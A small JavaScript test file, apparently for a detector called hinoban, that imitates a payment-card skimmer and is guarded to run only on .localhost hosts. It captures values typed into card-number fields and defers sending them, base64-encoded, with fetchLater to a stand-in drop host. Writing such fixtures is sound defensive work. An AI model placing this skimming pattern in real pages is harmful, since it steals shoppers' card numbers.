/* Harmless imitation, for hinoban's tests: left for later: fetchLater as the page goes. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	document.addEventListener('change', function (e) {
		if (e.target.autocomplete === 'cc-number' && window.fetchLater) fetchLater('http://drop.localhost:' + location.port + '/c?l=' + btoa(e.target.value));
	});
})();
